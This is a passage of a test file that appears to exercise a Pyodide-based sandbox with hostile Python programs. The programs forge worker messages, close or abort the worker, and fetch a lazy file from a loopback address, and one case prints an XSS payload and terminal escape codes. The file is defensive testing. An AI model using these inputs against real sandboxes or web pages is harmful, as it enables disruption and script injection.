        embedded.close()
    assert {"/inherited", "/within", "/blob"} <= set(reached), "what the others are made with"
    assert len(set(reached)) >= NETWORK.count("lambda:") / 3


@pytest.mark.parametrize(
    "source",
    [
        PORT + "port.postMessage(js.Array.of('failed', 'harmed'))\n",
        PORT + "port.postMessage(js.Array.of('broke', 'harmed'))\n",
        PORT + "port.postMessage(js.Array.of('ready'))\n",
        PORT + "port.postMessage('harmed')\n",
        PORT + "port.postMessage(None)\n",
        PORT + "port.postMessage(1, js.Array.of(js.MessageChannel.new().port2))\n",
        PORT + "port.postMessage(js.Array.of(1, '__proto__'))\n",
        "import js\njs.close()\n",
        "import js\njs.reportError('harmed')\n",
        "import js\njs.self.onmessage = None\nimport os\nos.getppid()\n",
        "import pyodide_js\npyodide_js._module._abort()\n",
        "from pyodide_js import FS\n"
        "FS.createLazyFile('/tmp', 'lazy', 'http://127.0.0.1:9/', True, False)\n"
        "open('/tmp/lazy').read()\n",
    ],
    ids=[
        "failed",
        "broke",
        "ready",
        "text",
        "nothing",
        "port",
        "call",
        "close",
        "error",
        "deaf",
        "abort",
        "lazy file",
    ],
)
def test_who_breaks_its_own_worker_breaks_no_other(hostile: Run, source: str) -> None:
    *before, act = source.splitlines(keepends=True)
    parent = f"""
import multiprocessing
def harm(ready):
    exec({"".join(before)!r}, globals())
    ready.set()
    exec({act!r}, globals())
if __name__ == "__main__":
    ready = multiprocessing.Event()
    child = multiprocessing.Process(target=harm, args=(ready,))
    child.start()
    ready.wait()
    child.join(2)
    child.kill()
    child.join()
    print("unharmed")
"""
    told = hostile(parent, seconds=60)
    assert (told.code, told.out.splitlines()[-1:]) == (0, ["unharmed"])
    hostile(source, seconds=LIMIT)


def test_what_a_program_prints_is_text(hostile: Run) -> None:
    source = "print('<img src=x onerror=alert(1)>\\x1b[31m\\x07\\u202e\\0')\n"
    assert hostile(source).out == "<img src=x onerror=alert(1)>\x1b[31m\x07\u202e\0\n"
